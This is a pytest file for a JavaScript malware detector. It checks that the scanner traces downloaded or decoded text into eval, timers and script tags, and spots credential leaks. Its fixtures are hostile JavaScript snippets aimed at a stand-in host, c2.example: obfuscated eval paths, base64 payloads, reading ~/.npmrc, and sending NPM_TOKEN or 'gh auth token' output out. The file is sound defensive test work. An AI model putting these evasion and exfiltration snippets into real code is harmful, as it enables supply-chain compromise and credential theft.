"""Ways to hide what is called, and where its data comes from, that were once ways around the reader."""

from __future__ import annotations

import pytest

from tests.worker.inspection.facts.told_javascript import facts

FETCHED = "const got = fetch('https://c2.example/x').then(r => r.text());\n"
PAYLOAD = "Y29uc29sZS5sb2coImltaXRhdGlvbiIp"

RUNS_WHAT_IT_FETCHED = {
    "a key of a pattern that is a name": "const k = ['ev', 'al'].join(''); const { [k]: run } = globalThis;\ngot.then(t => run(t));",
    "this of a function that is called on nothing": "function F() { return this }\ngot.then(t => F().eval(t));",
    "the same by a computed member": "var F = function () { return this };\ngot.then(t => F()['ev' + 'al'](t));",
    "a map": "const m = new Map([['a', eval]]);\ngot.then(t => m.get('a')(t));",
    "a set": "const s = new Set([eval]);\ngot.then(t => { for (const e of s) e(t) });",
    "a list that is filled and emptied": "const a = []; a.push(eval);\ngot.then(t => a.pop()(t));",
    "Array.from": "\ngot.then(t => Array.from([t], eval));",
    "a getter": "const o = { get e() { return eval } };\ngot.then(t => o.e(t));",
    "a defined property": "const o = {}; Object.defineProperty(o, 'e', { value: eval });\ngot.then(t => o.e(t));",
    "a prototype that is set": "const o = {}; o.__proto__ = { e: eval };\ngot.then(t => o.e(t));",
    "a method of all texts": "String.prototype.go = function () {\nreturn eval(this + '') };\ngot.then(t => t.go());",
    "a property of the global object": "got.then(t => { globalThis.kept = t; });\nsetInterval(() => eval(globalThis.kept), 99);",
    "an emitter": "const e = new (require('events'))();\ne.on('x', t => eval(t)); got.then(t => e.emit('x', t));",
    "a key that is called code": "(async () => { const { code } = await got;\neval(code); })();",
}


@pytest.mark.parametrize("source", RUNS_WHAT_IT_FETCHED.values(), ids=RUNS_WHAT_IT_FETCHED.keys())
def test_what_was_fetched_is_followed_into_eval(source: str) -> None:
    assert "3 dynamic-code eval <- download 1 fetch" in facts(FETCHED + source)


ANSWERS = {
    "the handler of a socket": "const w = new WebSocket('wss://c2.example/');\nw.onmessage = ({ data }) => eval(data);",
    "the handler of a stream of events": "const s = new EventSource('https://c2.example/');\ns.onmessage = e => eval(e.data);",
    "the answer of an error": "try { await require('axios').get('https://c2.example/') } catch (e) {\neval(e.response.data.x) }",
    "the answer of an error, picked": "try { await fetch('https://c2.example/') } catch ({ body }) {\neval(body) }",
    "this of a handler": "const x = new XMLHttpRequest(); x.open('GET', 'https://c2.example/'); x.onload = function () {\neval(this.responseText) };",
    "what curl prints": "const out = require('child_process').execSync('curl -s https://c2.example/x');\neval(out + '');",
}


@pytest.mark.parametrize("source", ANSWERS.values(), ids=ANSWERS.keys())
def test_answers_are_downloads_however_they_arrive(source: str) -> None:
    (run,) = (fact for fact in facts(source) if "dynamic-code" in fact)
    assert run.startswith("2 dynamic-code eval <- ")
    assert "download" in run


def test_an_error_is_no_answer_of_a_block_that_asks_nobody() -> None:
    assert facts("try { work() } catch (e) {\neval(e.message) }") == ["2 dynamic-code eval"]


DECODES = {
    "turned around by reduce": "eval([...')\"noitatimi\"(gol.elosnoc'].reduce((all, one) => one + all, ''));",
    "turned around by reduce without a start": "eval([...')\"noitatimi\"(gol.elosnoc'].reduce((all, one) => one + all));",
    "put together by reduceRight": "eval([...')\"noitatimi\"(gol.elosnoc'].reduceRight((all, one) => all + one, ''));",
    "a decoder that is handed over": f"eval('{PAYLOAD}'.match(/.{{1,4}}/g).map(atob).join(''));",
    "a timer under another name": f"const later = setTimeout; later(atob('{PAYLOAD}'), 10);",
    "a timer by a computed name": f"const later = globalThis['set' + 'Timeout']; later(atob('{PAYLOAD}'));",
}


@pytest.mark.parametrize("source", DECODES.values(), ids=DECODES.keys())
def test_what_was_hidden_is_followed_into_what_runs_it(source: str) -> None:
    assert any("dynamic-code" in fact and "<- decoded 1" in fact for fact in facts(source))


def test_a_list_that_is_reduced_is_one_text() -> None:
    source = "require('fs').readFileSync([...'crmpn./~'].reduce((all, one) => one + all, ''));"
    assert facts(source) == ["1 credential-file ~/.npmrc", "1 file-read ~/.npmrc"]


@pytest.mark.parametrize(
    ("source", "told"),
    [
        ("got.then(({ done }) => setTimeout(done, 10));", "setTimeout"),  # it may as well be a function
        ("got.then(t => setTimeout(t + '', 10));", "setTimeout(text)"),
        ("let all = ''; got.on('data', c => { all += c; setTimeout(all, 10); });", "setTimeout(text)"),
        ("fetch('https://c2.example/').then(r => r.text()).then(t => setTimeout(t, 10));", "setTimeout(text)"),
    ],
)
def test_a_timer_is_told_apart_by_what_it_is_given(source: str, told: str) -> None:
    found = [fact.split(" <- ")[0] for fact in facts(FETCHED + source)]
    assert f"2 dynamic-code {told}" in found


def test_what_is_handed_over_as_one_of_many_is_called() -> None:
    source = "const pass = (...steps) => input => steps.reduce((value, step) => step(value), input);\npass(String, eval)('x');"
    assert "1 dynamic-code eval" in facts(source)


def test_modules_are_loaded_under_computed_names() -> None:
    source = "const m = name => module['req' + 'uire'](name);\nm('net').connect({ port: 1, host: 'c2.example' });"
    assert "2 network net.connect -> c2.example" in facts(source)


def test_an_image_sends_its_address_and_a_script_runs_its_text() -> None:
    source = """
        new Image().src = 'https://c2.example/?' + process.env.NPM_TOKEN;
        const s = document.createElement('script'); fetch('https://c2.example/').then(t => { s.text = t; });"""
    found = facts(source)
    assert "1 network Image.src -> c2.example <- environment 1 NPM_TOKEN" in found
    assert "2 dynamic-code script.text <- download 2 fetch" in found


def test_pictures_of_the_page_itself_and_scripts_of_known_hosts_are_no_facts() -> None:
    source = """
        new Image().src = './logo.png';
        const s = document.createElement('script'); s.src = 'https://pay.example/v3.js'; s.text = 'init()';"""
    assert [fact for fact in facts(source) if " host " not in fact] == []


def test_the_report_of_node_holds_the_environment_and_much_else() -> None:
    sends = "fetch('https://c2.example/', {{ method: 'POST', body: {} }});"
    whole = sends.format("JSON.stringify(process.report.getReport())")
    part = sends.format("process.report.getReport().environmentVariables")
    libc = sends.format("process.report.getReport().header.glibcVersionRuntime")
    assert [any("<- environment 1 *" in fact for fact in facts(one)) for one in (whole, part, libc)] == [
        True,
        True,
        False,
    ]


def test_what_programs_print_of_logins_is_a_login() -> None:
    source = "const t = require('child_process').execSync('gh auth token');\nfetch('https://c2.example/' + t);"
    assert any("network" in fact and "credential-file 1 ~/.config/gh/hosts.yml" in fact for fact in facts(source))


def test_a_request_object_has_the_host_of_its_address() -> None:
    assert "1 network fetch -> c2.example" in facts("fetch(new Request('https://c2.example/a', { method: 'POST' }));")
